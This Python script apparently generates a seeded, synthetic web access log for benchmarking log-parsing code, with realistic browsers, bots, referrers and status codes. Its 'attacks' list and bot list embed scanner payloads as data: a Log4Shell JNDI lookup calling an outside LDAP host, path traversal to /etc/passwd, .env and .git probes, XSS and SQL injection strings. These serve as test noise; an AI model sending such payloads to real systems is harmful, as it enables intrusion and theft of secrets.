"""Writes the access log that the log measures read: generate_log.py [ROWS] [PATH] [SEED].

2,000,000 lines (the default) in the combined format over 14 days: paths by Zipf 1.05, addresses by
Zipf 0.8 (one in twenty of IPv6), some 130 browsers, bots in 18 of 100 lines, attacks in 2, errors,
redirects, queries, referrers, quotes and escapes. Agents do not depend on addresses, so that there
are many visitors: the hard case. The same lines come out each time for a seed.
"""

import itertools
import os
import random
import sys

rows = int(sys.argv[1]) if len(sys.argv) > 1 else 2_000_000
path = sys.argv[2] if len(sys.argv) > 2 else "/tmp/batteries-benchmark/access.log"
seed = int(sys.argv[3]) if len(sys.argv) > 3 else 7
os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
dice = random.Random(seed)

DAYS = 14
# How busy the hours of a day are, beside each other.
HOURS = [3, 2, 2, 1, 1, 2, 3, 5, 8, 10, 11, 11, 10, 11, 11, 10, 10, 9, 9, 10, 10, 9, 7, 5]


def zipf(count, exponent):
    """Cumulative weights by rank."""
    return list(itertools.accumulate(1 / rank**exponent for rank in range(1, count + 1)))


def some(values, count, weights=None):
    return dice.choices(values, cum_weights=weights, k=count)


def mix(*pairs):
    """Values and their cumulative weights."""
    values, weights = zip(*pairs)
    return list(values), list(itertools.accumulate(weights))


# MARK: Clients


def browsers():
    windows = "Windows NT 10.0; Win64; x64"
    mac = "Macintosh; Intel Mac OS X 10_15_7"
    linux = "X11; Linux x86_64"
    webkit = "AppleWebKit/537.36 (KHTML, like Gecko)"
    phones = [
        "Linux; Android 10; K", "Linux; Android 13; SM-S918B", "Linux; Android 14; Pixel 8",
        "Linux; Android 12; M2101K6G", "Linux; Android 11; CPH2269",
    ]
    for version in range(122, 138, 2):
        for system in (windows, mac, linux):
            yield f"Mozilla/5.0 ({system}) {webkit} Chrome/{version}.0.0.0 Safari/537.36"
        yield (
            f"Mozilla/5.0 ({windows}) {webkit} Chrome/{version}.0.0.0 Safari/537.36 "
            f"Edg/{version}.0.0.0"
        )
    for version, phone in zip(range(124, 139), itertools.cycle(phones)):
        yield f"Mozilla/5.0 ({phone}) {webkit} Chrome/{version}.0.0.0 Mobile Safari/537.36"
    for version in (115, 121, 125, 128, 130, 132, 134, 136):
        for system in (windows, "Macintosh; Intel Mac OS X 10.15", "X11; Ubuntu; Linux x86_64"):
            yield (
                f"Mozilla/5.0 ({system}; rv:{version}.0) Gecko/20100101 Firefox/{version}.0"
            )
    for version in ("15_8", "16_7", "17_4", "17_6", "18_1", "18_3"):
        safari = version.replace("_", ".")
        tail = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
        yield (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {version} like Mac OS X) {tail} "
            f"Version/{safari} Mobile/15E148 Safari/604.1"
        )
        yield (
            f"Mozilla/5.0 (iPad; CPU OS {version} like Mac OS X) {tail} "
            f"Version/{safari} Mobile/15E148 Safari/604.1"
        )
        yield f"Mozilla/5.0 ({mac}) {tail} Version/{safari} Safari/605.1.15"
    for version in (22, 23, 24, 25, 26, 27):
        yield (
            f"Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536B) {webkit} "
            f"SamsungBrowser/{version}.0 Chrome/115.0.0.0 Mobile Safari/537.36"
        )
    for version in (104, 106, 108, 110, 112):
        yield (
            f"Mozilla/5.0 ({windows}) {webkit} Chrome/{version + 14}.0.0.0 Safari/537.36 "
            f"OPR/{version}.0.0.0"
        )
    yield "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
    yield "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.0; Trident/5.0)"
    yield f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {webkit} Chrome/124.0.0.0 Safari/537.36"
    yield (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/15E148 Instagram 334.0.4.32.98 (iPhone14,5; iOS 17_5; de_DE)"
    )
    yield (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
        "like Gecko) Mobile/21E219 [FBAN/FBIOS;FBAV/456.0.0.36.107;FBDV/iPhone13,2]"
    )
    # What servers write for quotes and bytes that are no text.
    yield r"Mozilla/5.0 (X11; \"quoted\"; Linux x86_64) Gecko/20100101 Firefox/102.0"
    yield r"Mozilla/5.0 (Windows NT 10.0; \x22Win64\x22) Gecko/20100101 Firefox/109.0"
    yield r"back\\slash/1.0 \xc3\xa9t\xc3\xa9"
    yield "-"


bots = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
    "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
    "+https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
    "+claudebot@anthropic.com)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile "
    "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 zgrab/0.x",
    "${jndi:ldap://198.51.100.7/a}",
]
people = list(browsers())


def address(number):
    if number % 20 == 19:
        parts = [0x2001, 0xDB8] + [dice.randrange(1, 65536) for _ in range(6)]
        return ":".join(f"{part:x}" for part in parts)
    return ".".join(str(dice.randrange(low, 255)) for low in (1, 0, 0, 1))


# A set, in the order of its making, so that no two clients are one.
addresses = list(dict.fromkeys(address(number) for number in range(60_000)))

# MARK: Requests

words = (
    "about archive article basket blog catalog checkout compare contact docs download events faq "
    "forum gallery guide help history home image index item jobs learn library login map market "
    "media news offer order page photo post press price product profile project report review "
    "search service shop status story support tag team terms topic tour update user video"
).split()
extensions = [".css", ".js", ".png", ".jpg", ".svg", ".woff2", ".ico", ".pdf", ".gif"]


def target(number):
    first, second = dice.choice(words), dice.choice(words)
    kind = number % 10
    if kind == 0:
        return f"/assets/{first}-{number}{dice.choice(extensions)}"
    if kind == 1:
        return f"/api/v{number % 3 + 1}/{first}/{number}"
    if kind == 2:
        return f"/{first}/{second}-{number}.html"
    if kind == 3:
        return f"/{first}/%C3%A9t%C3%A9-{number}/"
    return f"/{first}/{second}/{number}/"


targets = ["/"] + [target(number) for number in range(1, 20_000)]
dice.shuffle(targets)
missing = [f"/{dice.choice(words)}/gone-{number}" for number in range(2_000)]
queries = [""] * 900 + [
    f"?{dice.choice(('page', 'q', 'id', 'sort', 'utm_source'))}={dice.choice(words)}"
    for _ in range(100)
]
protocols = mix(("HTTP/1.1", 58), ("HTTP/2.0", 40), ("HTTP/1.0", 2))
methods = mix(("GET", 920), ("POST", 50), ("HEAD", 20), ("OPTIONS", 5), ("PUT", 3), ("DELETE", 2))
statuses = mix(
    (200, 850), (304, 60), (301, 25), (302, 10), (206, 10), (404, 25), (403, 5), (401, 2),
    (499, 5), (500, 4), (502, 2), (503, 2),
)
attacked = mix((404, 70), (403, 15), (400, 10), (200, 3), (500, 2))
attacks = [
    "GET /wp-login.php HTTP/1.1", "POST /xmlrpc.php HTTP/1.1", "GET /.env HTTP/1.1",
    "GET /.git/config HTTP/1.1", "GET /phpmyadmin/index.php HTTP/1.1",
    "GET /cgi-bin/../../../../etc/passwd HTTP/1.1",
    "GET /?q=<script>alert(document.cookie)</script> HTTP/1.1",
    "GET /index.php?id=1'%20OR%20'1'='1 HTTP/1.1",
    "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
    "GET /boaform/admin/formLogin?username=admin&psd=admin HTTP/1.0",
    r"GET /\"><svg/onload=alert(1)> HTTP/1.1",
    r"GET /\x1b[2J\x1b[31mred HTTP/1.1",
    "GET /a path with spaces HTTP/1.1",
    r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "-",
]
own = "https://www.example.com"
referrers = ["-"] * 45 + [own + name for name in targets[:350]] + [
    "https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
    "https://t.co/Zb4xR7", "https://www.reddit.com/r/swift/", "https://news.ycombinator.com/",
    "https://m.facebook.com/", "https://www.linkedin.com/feed/",
    "https://search.example.net/?q=swift+batteries&page=2",
]
referrer_weights = list(itertools.accumulate([10] * 45 + [1] * 350 + [30] * 9))
users = ["-"] * 995 + ["alice", "bob", "carol", "dave", "user name"]
sizes = [int(dice.lognormvariate(8.6, 1.4)) + 20 for _ in range(50_000)]

# MARK: Lines

by_target, by_address = zipf(len(targets), 1.05), zipf(len(addresses), 0.8)
clients = mix((people, 82), (bots, 18))
clock = [f"{second // 60:02}:{second % 60:02}" for second in range(3600)]


def request(code, method, protocol, name, query):
    if code == 404:
        return f"{method} {dice.choice(missing)} {protocol}"
    return f"{method} {name}{query} {protocol}"


def hour(day, number, count):
    """The lines of an hour, in the order of their times."""
    start = f"[{day + 1:02}/Nov/2026:{number:02}:"
    parts = zip(
        some(addresses, count, by_address),
        some(users, count),
        sorted(some(range(3600), count)),
        some(methods[0], count, methods[1]),
        some(targets, count, by_target),
        some(queries, count),
        some(protocols[0], count, protocols[1]),
        some(statuses[0], count, statuses[1]),
        some(sizes, count),
        some(referrers, count, referrer_weights),
        some(clients[0], count, clients[1]),
    )
    for who, user, second, method, name, query, protocol, code, size, referrer, pool in parts:
        if dice.random() < 0.02:
            line = dice.choice(attacks)
            code = some(attacked[0], 1, attacked[1])[0]
        else:
            line = request(code, method, protocol, name, query)
        if code == 304:
            size = "-"
        elif code >= 300:
            size = 150 + size % 900
        agent = pool[int(dice.random() * len(pool))]
        yield (
            f"{who} - {user} {start}{clock[second]} +0000] \"{line}\" {code} {size} "
            f"\"{referrer}\" \"{agent}\"\n"
        )


with open(path, "w", encoding="utf-8", newline="", buffering=1 << 22) as out:
    total, weight, done = DAYS * sum(HOURS), 0, 0
    for day, number in itertools.product(range(DAYS), range(24)):
        weight += HOURS[number]
        upto = rows * weight // total
        out.writelines(hour(day, number, upto - done))
        done = upto
